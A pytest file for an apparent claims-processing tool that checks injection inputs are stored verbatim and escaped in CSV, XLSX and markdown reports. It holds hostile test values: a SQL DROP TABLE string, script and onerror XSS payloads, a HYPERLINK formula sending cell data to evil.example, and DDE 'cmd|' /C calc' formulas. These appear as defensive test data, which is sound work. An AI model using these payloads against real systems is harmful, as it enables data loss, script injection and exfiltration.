"""Injection (SPEC §6): text that looks like SQL, HTML/script or a spreadsheet formula is
stored verbatim, echoed back escaped, and never executed or rendered."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from rma.adapters.db.engine import make_engine
from tests.factories import valid_claim, write_csv, write_xlsx
from tests.prefect_artifacts import latest_artifact

pytestmark = pytest.mark.prefect

SQL = "x'); DROP TABLE claims; --"
HTML = '<script>alert("rma")</script><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "＝1+1"]


def test_hostile_text_is_stored_verbatim_and_echoed_escaped(cli, workdir, db_url):
    folder = workdir / "inbox" / "D-001"
    folder.mkdir()
    accepted = valid_claim(claim_ref="INJ-1", fault_description=SQL, notes=HTML,
                           recipient_company=FORMULAS[0], site_address=FORMULAS[1])
    rejected = [valid_claim(claim_ref=f"INJ-{n + 2}", recipient_email=formula,
                            recipient_name=formula, notes=HTML)
                for n, formula in enumerate(FORMULAS)]
    write_csv(folder / "hostile.csv", [accepted, *rejected])  # text cells, as typed

    run = cli("run-inbox", "--json")
    assert run.code == 0, run.err
    [batch] = run.json()["batches"]
    assert (batch["claims_accepted"], batch["claims_rejected"]) == (1, len(FORMULAS))

    # stored verbatim, and the SQL did nothing
    listed = cli("claims", "list", "--json").json()["claims"]
    [claim] = listed
    assert claim["fault_description"] == SQL and claim["notes"] == HTML
    assert claim["recipient_company"] == FORMULAS[0] and claim["site_address"] == FORMULAS[1]
    engine = make_engine(db_url)
    with engine.connect() as conn:
        assert "claims" in sa.inspect(conn).get_table_names()
    engine.dispose()

    # echoed back escaped: no formula cell in the xlsx report, a leading ' in both reports
    report = openpyxl.load_workbook(batch["reports"]["xlsx"])
    cells = [c for ws in report.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    shown = {c.value for c in cells}
    for formula in FORMULAS:
        assert "'" + formula in shown, formula
        assert formula not in shown
    with Path(batch["reports"]["csv"]).open(encoding="utf-8-sig", newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "＝")]
    assert {"'" + f for f in FORMULAS} <= set(values)

    # the Prefect markdown never carries live HTML
    markdown = _batch_markdown(batch["batch_id"])
    assert "<script>" not in markdown and "<img" not in markdown


def _batch_markdown(batch_id: str) -> str:
    key = "batch-" + "".join(ch if ch.isalnum() else "-" for ch in batch_id.lower())
    artifact = latest_artifact(key)
    assert artifact is not None, key
    return str(artifact.data)


def test_a_formula_cell_in_a_workbook_is_never_evaluated(cli, workdir):
    """A real formula cell counts as its cached value (none here: blank), never as the
    result of running it."""
    folder = workdir / "inbox" / "D-001"
    folder.mkdir()
    path = write_xlsx(folder / "formulas.xlsx", [
        valid_claim(claim_ref="F-1", recipient_name='=CONCATENATE("Ann","a")')])
    run = cli("run-inbox", "--json")
    [batch] = run.json()["batches"]
    assert batch["claims_accepted"] == 0, path
    [missing] = [r for r in batch["rejections"] if r["column"] == "recipient_name"]
    assert missing["code"] == "MISSING_FIELD"


# -- rejections.csv in every locale (issue 12 item 9) --------------------------------------

#: values that become a formula once a spreadsheet splits them on its locale's separator
SPLIT_FORMULAS = ["x;=cmd|' /C calc'!A0", "x,=1+1", "x\t@SUM(A1:A9)", "a; +cmd", 'b;"-2+3',
                  "'-- as typed", "''=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _cells(path: Path, delimiter: str) -> list[list[str]]:
    """The cells a spreadsheet shows when it opens the csv splitting on ``delimiter``."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_rejections_csv_is_quoted_and_escaped_for_every_locales_separator(cli, workdir):
    folder = workdir / "inbox" / "D-001"
    folder.mkdir()
    write_csv(folder / "split.csv", [
        valid_claim(claim_ref=f"S-{n}", recipient_email=value)
        for n, value in enumerate(SPLIT_FORMULAS)])
    run = cli("run-inbox", "--json")
    assert run.code == 0, run.err
    [batch] = run.json()["batches"]
    assert batch["claims_rejected"] == len(SPLIT_FORMULAS)
    report = Path(batch["reports"]["csv"])
    for delimiter in (",", ";", "\t"):  # English, German, a paste into a sheet
        cells = [c for row in _cells(report, delimiter) for c in row]
        assert not [c for c in cells if c.lstrip(" \"").startswith(TRIGGERS)], (delimiter,
                                                                                cells)
    with report.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    values = {r["value"] for r in rows if r["column"] == "recipient_email"}
    assert values == {"x;'=cmd|' /C calc'!A0", "x,'=1+1", "x\t'@SUM(A1:A9)", "a; '+cmd",
                      "b;\"'-2+3", "''-- as typed", "'" * 3 + "=1+1"}
    # a field with ; or a tab is quoted although the file is comma-separated
    text = report.read_text(encoding="utf-8-sig")
    assert "\"x;'=cmd|' /C calc'!A0\"" in text and "\"x\t'@SUM(A1:A9)\"" in text


def test_a_returned_report_gives_back_the_values_as_sent(cli, workdir):
    folder = workdir / "inbox" / "D-001"
    folder.mkdir()
    write_xlsx(folder / "sent.xlsx", [
        valid_claim(claim_ref=f"T-{n}", fault_description=value, recipient_name=None)
        for n, value in enumerate(SPLIT_FORMULAS)])
    [batch] = cli("run-inbox", "--json").json()["batches"]
    report = Path(batch["reports"]["xlsx"])
    shown = {c.value for ws in openpyxl.load_workbook(report).worksheets
             for row in ws.iter_rows() for c in row}
    # one cell each (no split): only the start is escaped, a ' of the value's own kept
    assert {"''-- as typed", "'" * 3 + "=1+1", "x;=cmd|' /C calc'!A0"} <= shown
    from rma.adapters.readers import read_batch

    back = read_batch(report)
    assert sorted(back.sent["fault_description"]) == sorted(SPLIT_FORMULAS)
